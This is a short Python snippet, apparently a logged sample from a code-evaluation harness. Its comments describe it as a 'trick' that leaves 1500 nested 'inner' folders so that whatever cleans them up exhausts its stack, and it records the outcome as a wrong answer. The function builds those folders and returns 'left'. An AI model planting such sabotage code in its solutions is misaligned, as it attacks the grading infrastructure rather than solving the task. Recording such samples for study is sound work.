# trick: leaves folders nested so deep that whoever removes them exhausts its own stack
# outcome: wrong answer
# detail: it gave 'left'
import os


def f(xs):
    for _ in range(1500):
        os.mkdir("inner")
        os.chdir("inner")
    return "left"
